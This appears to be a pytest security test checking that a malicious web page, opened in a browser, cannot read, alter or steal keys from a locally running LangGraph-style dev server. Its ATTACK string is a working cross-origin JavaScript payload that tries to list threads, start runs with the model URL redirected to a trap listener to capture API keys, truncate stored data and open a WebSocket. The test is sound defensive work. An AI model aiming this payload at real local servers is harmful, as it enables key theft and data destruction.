"""A page of another site, opened in a browser on the machine where `hopgraph serve` or `langgraph dev` runs."""

from pathlib import Path

import pytest
from starlette.responses import HTMLResponse
from starlette.types import Receive, Scope, Send

from support.servers.browsing import chromium_browser
from support.servers.langgraph_server import langgraph_server
from support.servers.loopback import LoopbackServer
from support.servers.trap import SECRETS, listening

pytestmark = pytest.mark.slow

ATTACK = """async ([server, trap]) => {
    const settings = {model: `openai:any?base_url=${trap}/v1`};
    const run = JSON.stringify({assistant_id: "one_step", input: {question: "Who?"}, context: settings});
    const json = {"Content-Type": "application/json"};
    const tries = [
        ["read", () => fetch(`${server}/threads/search`, {method: "POST", headers: json, body: "{}"})],
        ["run", () => fetch(`${server}/runs/wait`, {method: "POST", headers: json, body: run})],
        ["blind", () => fetch(`${server}/runs/wait`, {method: "POST", mode: "no-cors", body: run})],
        ["empty", () => fetch(`${server}/internal/truncate`, {method: "POST", mode: "no-cors"})],
        ["threads", () => fetch(`${server}/threads`, {method: "POST", mode: "no-cors", body: "{}"})],
    ];
    const read = {};
    for (const [name, attempt] of tries) {
        try { const reply = await attempt(); read[name] = reply.type + (await reply.text()); }
        catch (error) { read[name] = "refused"; }
    }
    read.socket = await new Promise(resolve => {
        const path = `/threads/${crypto.randomUUID()}/stream/events`;
        const socket = new WebSocket(server.replace("http", "ws") + path);
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("refused");
    });
    return read;
}"""


def test_it_reads_nothing_changes_nothing_and_gets_no_key(tmp_path: Path) -> None:
    async def page(scope: Scope, receive: Receive, send: Send) -> None:
        await HTMLResponse("<title>Free holidays</title>")(scope, receive, send)

    with (
        langgraph_server(tmp_path / "log", environment=SECRETS) as server,
        listening() as trap,
        LoopbackServer(page) as site,
        chromium_browser() as browser,
    ):
        tab = browser.new_page()
        owner = browser.new_context().request
        thread = owner.post(f"{server}/threads", data={}).json()["thread_id"]
        tab.goto(site.url)
        read = tab.evaluate(ATTACK, [server, trap.url])
        kept = [each["thread_id"] for each in owner.post(f"{server}/threads/search", data={}).json()]
    # Without CORS a browser tells a page nothing: an opaque reply without a text.
    opaque = dict.fromkeys(("blind", "empty", "threads"), "opaque")
    assert read == {"read": "refused", "run": "refused", "socket": "refused", **opaque}
    assert kept == [thread]
    assert not trap.heard
